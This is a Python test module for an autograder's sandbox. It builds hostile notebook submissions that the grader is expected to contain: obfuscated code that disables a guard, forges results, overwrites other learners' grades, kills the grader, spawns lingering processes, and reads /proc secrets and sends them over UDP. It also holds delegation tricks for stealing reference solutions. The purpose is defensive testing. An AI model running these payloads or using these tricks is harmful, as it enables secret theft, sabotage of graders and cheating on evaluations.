"""The attacks of issue 8 and the fairness cases, as corpus submissions (one folder each).

Each hostile function is written the way the issue's attacker wrote it, getting around
the static check where it can (``getattr`` with computed names instead of ``sys._getframe``
or ``sys.modules``), so that the sandbox itself is what contains it. Each variant is
(content, expectations): content is a notebook, a folder of notebooks, or a function that
makes the submission on disk (FIFOs and links). ``make_corpus`` writes them.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

from tests.grading.corpus.make_corpus import (
    FULL,
    NOTEBOOK_OF,
    _all_missing,
    _folder,
    _folder_with,
    _single,
    code_cell,
    graded_cell_index,
    load,
    replaced,
)

#: Statuses of a hostile function that scores nothing (which one depends on where it stops).
ZERO = ("failed", "error", "blocked", "crashed", "timeout", "delegation", "not implemented")

#: Switch the child's diagnostic guard off through frames (the issue's trick), unseen by the
#: static check: after this, only the sandbox stands in the way.
DISARM = """    import sys
    frame = getattr(sys, '_get' + 'frame')()
    while frame is not None:
        for value in list(getattr(frame, 'f_' + 'locals').values()):
            if hasattr(value, 'active') and hasattr(value, 'violations'):
                value.active = False
        frame = getattr(frame, 'f_' + 'back')
"""


def _with_cells(function: str, definition: str, before: list[str]) -> dict:
    notebook = replaced(function, definition)
    index = graded_cell_index(notebook, function)
    for offset, source in enumerate(before):
        notebook["cells"].insert(index + offset, code_cell(source))
    return notebook


def attack_variants(outside: Path, udp_port: int) -> dict[str, tuple[object, dict]]:
    content, gram, style = "compute_content_cost", "gram_matrix", "compute_layer_style_cost"
    total = "total_cost"
    forged_files = (
        "def gram_matrix(A):\n"
        "    import json, os\n"
        "    # The old job folder was '..': forge every task's status and result there.\n"
        "    for folder in ('..', '../..', '/tmp', '/', os.getcwd()):\n"
        "        try:\n"
        "            handle = os.open(folder, os.O_RDONLY)\n"
        "        except OSError:\n"
        "            continue\n"
        "        for number in range(5):\n"
        "            for name in (f'status{number}.json', f'result{number}.npz', 'ready'):\n"
        "                try:\n"
        "                    out = os.open(name, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=handle)\n"
        "                    os.write(out, json.dumps({'total': 100}).encode())\n"
        "                    os.close(out)\n"
        "                except OSError:\n"
        "                    pass\n"
        "    os._exit(0)\n"
    )
    forged_frames = (
        "def total_cost(J_content, J_style, alpha=10, beta=40):\n"
        "    import json, os, struct\n"
        "    for name in os.listdir('/proc/self/fd'):\n"
        "        try:\n"
        "            target = os.readlink(f'/proc/self/fd/{name}')\n"
        "        except OSError:\n"
        "            continue\n"
        "        if target.startswith('socket:'):\n"
        "            header = json.dumps({'type': 'result', 'nonce': '0' * 32, 'cases': [],\n"
        "                                 'arrays': [], 'total': 100}).encode()\n"
        "            body = struct.pack('!I', len(header)) + header\n"
        "            try:\n"
        "                os.write(int(name), struct.pack('!I', len(body)) + body)\n"
        "            except OSError:\n"
        "                pass\n"
        "    return alpha * J_content + beta * J_style\n"
    )
    other_reports = (
        "def compute_content_cost(a_C, a_G):\n" + DISARM +
        "    import os\n"
        "    seen = 0\n"
        "    for root, folders, files in os.walk('/'):\n"
        "        if root.startswith(('/proc', '/sys', '/dev')):\n"
        "            folders[:] = []\n"
        "            continue\n"
        "        for name in files:\n"
        "            seen += 1\n"
        "            if name in ('SUBMISSION.json', 'grades.csv', 'feedback.md') or name.endswith('.ipynb'):\n"
        "                try:\n"
        "                    with open(os.path.join(root, name), 'w') as handle:\n"
        "                        handle.write('{\"total\": 0}')\n"
        "                except OSError:\n"
        "                    pass\n"
        "        if seen > 50000:\n"
        "            break\n"
        "    for descriptor in range(64):\n"
        "        try:\n"
        "            os.write(descriptor, b'forged')\n"
        "        except OSError:\n"
        "            pass\n"
        "    return None\n"
    )  # fmt: skip
    outliving = (
        "def compute_layer_style_cost(a_S, a_G):\n" + DISARM +
        "    import os, time\n"
        "    children = []\n"
        "    spawn = getattr(sys, 'mod' + 'ules')['_posix' + 'subprocess']\n"
        "    for attempt in ('fork', 'fork_exec'):\n"
        "        try:\n"
        "            if attempt == 'fork':\n"
        "                pid = os.fork()\n"
        "            else:\n"
        "                pid = spawn.fork_exec(['/bin/sleep', '30'], [b'/bin/sleep'], True, (), None,\n"
        "                                      None, -1, -1, -1, -1, -1, -1, *os.pipe(), True, True,\n"
        "                                      None, None, None, -1, None, False)\n"
        "        except (OSError, TypeError) as error:\n"
        "            children.append(repr(error))\n"
        "            continue\n"
        "        if pid == 0:\n"
        "            os.setsid()\n"
        "            time.sleep(6)\n"
        f"            for path in ({str(outside)!r}, '/tmp/late.txt'):\n"
        "                try:\n"
        "                    open(path, 'w').write('late')\n"
        "                except OSError:\n"
        "                    pass\n"
        "            os._exit(0)\n"
        "        children.append(pid)\n"
        "    return tf.constant(0.0)\n"
    )  # fmt: skip
    stop_grader = (
        "def gram_matrix(A):\n" + DISARM +
        "    import os, signal\n"
        "    try:\n"
        "        signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGSTOP)\n"
        "    except (OSError, ValueError):\n"
        "        pass\n"
        "    for pid in [os.getppid(), -1] + list(range(2, 200)):\n"
        "        for number in (signal.SIGSTOP, signal.SIGKILL):\n"
        "            try:\n"
        "                os.kill(pid, number)\n"
        "            except (OSError, ValueError):\n"
        "                pass\n"
        "    return tf.zeros((A.shape[0], A.shape[0]))\n"
    )  # fmt: skip
    secrets = (
        "def total_cost(J_content, J_style, alpha=10, beta=40):\n" + DISARM +
        "    import os, socket, threading\n"
        "    found = [repr(float(J_content)).encode()]\n"
        "    for pid in os.listdir('/proc'):\n"
        "        if pid.isdigit():\n"
        "            for leaf in ('cmdline', 'environ', 'mem', 'maps'):\n"
        "                try:\n"
        "                    with open(f'/proc/{pid}/{leaf}', 'rb') as handle:\n"
        "                        found.append(handle.read(4096))\n"
        "                except OSError:\n"
        "                    pass\n"
        "    def send():\n"
        "        for family, address in ((socket.AF_INET, '127.0.0.1'), (socket.AF_INET6, '::1')):\n"
        "            try:\n"
        "                sender = socket.socket(family, socket.SOCK_DGRAM)\n"
        f"                sender.sendto(b'LEAK' + b''.join(found)[:900], (address, {udp_port}))\n"
        "            except OSError:\n"
        "                pass\n"
        "    thread = threading.Thread(target=send)\n"
        "    thread.start()\n"
        "    thread.join()\n"
        "    send()\n"
        "    raise ValueError(b''.join(found)[:2000])\n"
    )  # fmt: skip
    runtime_hunt = (
        "import sys\n\n"
        "def gram_matrix(A):\n"
        "    modules = getattr(sys, 'mod' + 'ules')\n"
        "    name = 'nst' + '_helpers'\n"
        "    # 1. import the reference through importlib, found in sys.modules\n"
        "    loader = modules.get('import' + 'lib')\n"
        "    for module in (name + '.costs', name + '.reference_step', name + '.train'):\n"
        "        try:\n"
        "            return getattr(loader.import_module(module), 'gram_matrix')(A)\n"
        "        except Exception:\n"
        "            pass\n"
        "    # 2. any function object called gram_matrix that the process holds\n"
        "    collector = modules.get('g' + 'c')\n"
        "    for value in (collector.get_objects() if collector else []):\n"
        "        if type(value).__name__ == 'function' and value.__name__ == 'gram_matrix' \\\n"
        "                and str(getattr(value, '__module__', '')).startswith('nst'):\n"
        "            try:\n"
        "                return value(A)\n"
        "            except Exception:\n"
        "                pass\n"
        "    # 3. the library's source, wherever it is, run by hand\n"
        "    run = getattr(modules['builtins'], 'ex' + 'ec')\n"
        "    for folder in list(sys.path) + ['/work', '/root', '/usr', '/tmp']:\n"
        "        path = folder + '/' + name + '/costs.py'\n"
        "        try:\n"
        "            source = open(path).read()\n"
        "        except OSError:\n"
        "            continue\n"
        "        space = {}\n"
        "        run(source, space)\n"
        "        return space['gram_matrix'](A)\n"
        "    return None\n"
    )
    fake_tensor = (
        "import numpy as np\n\n"
        "class EagerTensor:\n"
        "    __module__ = 'tensorflow.python.framework.ops'\n"
        "    def __init__(self, value):\n"
        "        self.value = value\n"
        "    def numpy(self):\n"
        "        return self.value\n\n"
        "def compute_content_cost(a_C, a_G):\n"
        "    a_C, a_G = np.asarray(a_C), np.asarray(a_G)\n"
        "    _, n_H, n_W, n_C = a_G.shape\n"
        "    return EagerTensor(np.sum((a_C - a_G) ** 2) / (4 * n_H * n_W * n_C))\n"
    )
    class_patch = (
        "import keras\n\n"
        "def gram_matrix(A):\n"
        "    keras.optimizers.Adam.apply_gradients = lambda self, *a, **k: None\n"
        "    tf.Variable.assign = lambda self, *a, **k: None\n"
        "    return tf.matmul(A, tf.transpose(A))\n"
    )
    gram_solution = load(NOTEBOOK_OF[gram])
    return {
        "attack_forged_results": (
            _folder_with(gram, replaced(gram, forged_files)),
            _folder(gram, 0, "crashed", "exited in the middle"),
        ),
        "attack_forged_frames": (
            _folder_with(total, replaced(total, forged_frames)),
            _folder(total, 0, "crashed", "did not ask for"),
        ),
        "attack_other_learners_reports": (
            replaced(content, other_reports),
            _single(content, 0, ZERO),
        ),
        "attack_outliving_the_run": (
            _folder_with(style, replaced(style, outliving)),
            _folder(style, 0, ZERO),
        ),
        "attack_stopping_the_grader": (
            _folder_with(gram, replaced(gram, stop_grader)),
            _folder(gram, 0, ZERO),
        ),
        "attack_secrets_and_network": (
            replaced(total, secrets),
            _single(total, 0, "error", "raised ValueError"),
        ),
        "attack_delegation_at_run_time": (
            replaced(gram, runtime_hunt),
            _single(gram, 0, ("delegation", "not implemented", "failed", "error")),
        ),
        "attack_delegation_sibling_star": (
            _with_cells(style, "def compute_layer_style_cost(a_S, a_G):\n"
                        "    return layer_style_cost_from_grams(gram_matrix(unroll_activation(a_S)),"
                        " gram_matrix(unroll_activation(a_G)), 1, 1, 1)\n",
                        ["from nst_helpers.costs import *\n"]),
            _single(style, 0, "delegation", "layer_style_cost_from_grams"),
        ),
        "attack_delegation_wrapped": (
            _with_cells(style, "def compute_layer_style_cost(a_S, a_G):\n"
                        "    return gram_matrix.__wrapped__.__globals__['compute_layer_style_cost'](a_S, a_G)\n",
                        ["from nst_helpers import gram_matrix\n"]),
            _single(style, 0, "delegation", "__wrapped__"),
        ),
        "attack_delegation_gc": (
            replaced(gram, "import gc\n\ndef gram_matrix(A):\n"
                     "    return [f for f in gc.get_objects() if getattr(f, '__name__', '') == 'gram_matrix'][0](A)\n"),
            _single(gram, 0, "delegation", "gc"),
        ),
        "attack_delegation_runpy": (
            replaced(gram, "import runpy\n\ndef gram_matrix(A):\n"
                     "    return runpy.run_path('/somewhere/costs.py')['gram_matrix'](A)\n"),
            _single(gram, 0, "delegation", "runpy"),
        ),
        "attack_delegation_encoded_exec": (
            replaced(gram, "import codecs\n\ndef gram_matrix(A):\n"
                     "    space = {}\n"
                     "    exec(codecs.decode('sebz afg_urycref vzcbeg tenz_zngevk nf t', 'rot13'), space)\n"
                     "    return space['g'](A)\n"),
            _single(gram, 0, "delegation", "exec"),
        ),
        "attack_numpy_in_a_tensorflow_costume": (
            replaced(content, fake_tensor),
            _single(content, 0, "failed", "TensorFlow tensor"),
        ),
        "attack_class_patch_between_functions": (
            _folder_with(gram, replaced(gram, class_patch)),
            _folder(gram, FULL, "passed"),
        ),
        "supervisor_fifo_notebook": (
            lambda path: _special_folder(path, gram_solution, "fifo"),
            _single(gram, FULL, "passed"),
        ),
        "supervisor_link_to_dev_zero": (
            lambda path: _special_folder(path, gram_solution, "devzero"),
            _single(gram, FULL, "passed"),
        ),
        "supervisor_link_to_another_learner": (
            lambda path: _special_folder(path, gram_solution, "other"),
            _all_missing("symbolic link"),
        ),
        "grades.csv": (
            {NOTEBOOK_OF[gram]: gram_solution},
            _single(gram, FULL, "passed"),
        ),
        "_solution": (
            {NOTEBOOK_OF[gram]: replaced(gram, "def gram_matrix(A):\n    return A * A\n")},
            _single(gram, 0, "failed"),
        ),
        "supervisor_chained_assignments": (
            _with_cells(gram, "def gram_matrix(A):\n    return tf.matmul(A, tf.transpose(A)) * c4999\n",
                        ["c0 = 1.0\n" + "".join(f"c{i} = c{i - 1}\n" for i in range(1, 5000))]),
            _single(gram, FULL, "passed"),
        ),
        "supervisor_deep_expression": (
            replaced(gram, "def gram_matrix(A):\n    one = " + " + ".join(["1"] * 1500)
                     + " - 1499\n    return tf.matmul(A, tf.transpose(A)) * one\n"),
            _single(gram, FULL, ("passed", "too complex")),
        ),
    }  # fmt: skip


def _special_folder(path: Path, notebook: dict, kind: str) -> None:
    """A learner's folder with the gram notebook and one file the grader must not read."""
    path.mkdir()
    if kind == "other":
        # The notebook is a link to another learner's work: not graded as this learner's.
        os.symlink(
            path.parent / "solution" / NOTEBOOK_OF["gram_matrix"], path / "2_gram_matrix.ipynb"
        )
        return
    (path / NOTEBOOK_OF["gram_matrix"]).write_text(json.dumps(notebook))
    if kind == "fifo":
        os.mkfifo(path / "zz_hangs_the_grader.ipynb")
    else:
        os.symlink("/dev/zero", path / "zz_fills_the_memory.ipynb")


def fairness_variants() -> dict[str, tuple[dict, dict]]:
    """Correct code written in ways the grader used to misjudge: each earns full points."""
    content, gram, total = "compute_content_cost", "gram_matrix", "total_cost"
    timed = load(NOTEBOOK_OF[gram])
    cell = timed["cells"][graded_cell_index(timed, gram)]
    source = cell["source"] if isinstance(cell["source"], str) else "".join(cell["source"])
    cell["source"] = "%%time\n" + source
    captured = load(NOTEBOOK_OF[total])
    cell = captured["cells"][graded_cell_index(captured, total)]
    source = cell["source"] if isinstance(cell["source"], str) else "".join(cell["source"])
    cell["source"] = "%%capture output\n" + source
    content_body = (
        "def compute_content_cost(a_C, a_G):\n"
        "    _, n_H, n_W, n_C = a_G.get_shape().as_list()\n"
        "    a_C_unrolled = tf.reshape(a_C, shape=[-1, n_C])\n"
        "    a_G_unrolled = tf.reshape(a_G, shape=[-1, n_C])\n"
        "    return tf.reduce_sum(tf.square(a_C_unrolled - a_G_unrolled)) / ({} * n_H * n_W * n_C)\n"
    )
    return {
        "fair_cell_magic_time": (timed, _single(gram, FULL, "passed")),
        "fair_cell_magic_capture": (captured, _single(total, FULL, "passed")),
        "fair_dict_completed_by_subscript": (
            _with_cells(content, content_body.format("FACTORS['quarter']"),
                        ["FACTORS = {}\n", "FACTORS['quarter'] = 4\n"]),
            _single(content, FULL, "passed"),
        ),
        "fair_augmented_constant": (
            _with_cells(content, content_body.format("N"), ["N = 1\n", "N *= 4\n"]),
            _single(content, FULL, "passed"),
        ),
        "fair_inner_parameter_named_tf": (
            replaced(gram, "def gram_matrix(A):\n    def identity(tf):\n        return tf\n"
                     "    return identity(tf.matmul(A, tf.transpose(A)))\n"),
            _single(gram, FULL, "passed"),
        ),
        "fair_lambda_total_cost": (
            replaced(total, "total_cost = lambda J_content, J_style, alpha=10, beta=40: "
                     "alpha * J_content + beta * J_style\n"),
            _single(total, FULL, "passed"),
        ),
    }  # fmt: skip
